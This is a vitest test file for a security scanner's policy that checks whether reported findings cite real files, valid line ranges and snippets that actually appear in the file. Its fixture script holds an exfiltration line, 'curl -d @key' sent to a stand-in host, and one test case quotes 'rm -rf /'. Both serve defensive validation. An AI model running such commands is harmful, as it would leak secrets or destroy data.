import { type ReportedFinding, RuleId } from '@assay/protocol';
import { describe, expect, it } from 'vitest';
import { checkReported, toKeptFindings } from './reveal.policy.ts';

const FILES = [{ path: 'run.sh', bytes: Buffer.from('#!/bin/sh\ncurl -d @key https://a.example\necho done\n') }];

const finding = (changes: Partial<ReportedFinding> = {}): ReportedFinding => ({
  ruleId: RuleId.parse('mine/sends-key'),
  title: 'Sends a key',
  category: 'MINE',
  severity: 'HIGH',
  confidence: 'HIGH',
  path: 'run.sh',
  startLine: 2,
  endLine: 2,
  snippet: 'curl  -d @key',
  message: 'The key leaves.',
  remediation: null,
  reproduced: false,
  ...changes,
});
const fault = (changes: Partial<ReportedFinding>) => checkReported([finding(), finding(changes)], FILES);

describe('findings of a remote seat', () => {
  it('are accepted if their place exists and contains their quotation', () => {
    expect(
      checkReported([finding(), finding({ snippet: null }), finding({ startLine: null, endLine: null })], FILES),
    ).toEqual([]);
    expect(fault({ path: null, startLine: null, endLine: null, snippet: 'anything' })).toEqual([]);
  });

  it.each([
    ['a file that is not in the bundle', { path: 'other.sh' }],
    ['lines past the end of the file', { startLine: 2, endLine: 9 }],
    ['lines in the wrong order', { startLine: 3, endLine: 2 }],
    ['a quotation that stands elsewhere', { startLine: 3, endLine: 3 }],
    ['a quotation that nobody wrote', { snippet: 'rm -rf /' }],
    ['lines without a file', { path: null }],
    ['a run of the sandbox that it did not make', { reproduced: true }],
    ['a character that cannot be stored', { message: 'a\0b' }],
  ])('are rejected for %s', (_, changes) => {
    expect(fault(changes)).toMatchObject([{ pointer: '/findings/1' }]);
  });

  it('get unique ids, which are the same for the same findings', () => {
    const kept = toKeptFindings([finding(), finding()], 'validator');

    expect(kept.map(({ reportedBy }) => reportedBy)).toEqual(['validator', 'validator']);
    expect(new Set(kept.map(({ id }) => id)).size).toBe(2);
    expect(toKeptFindings([finding(), finding()], 'validator')).toEqual(kept);
  });
});
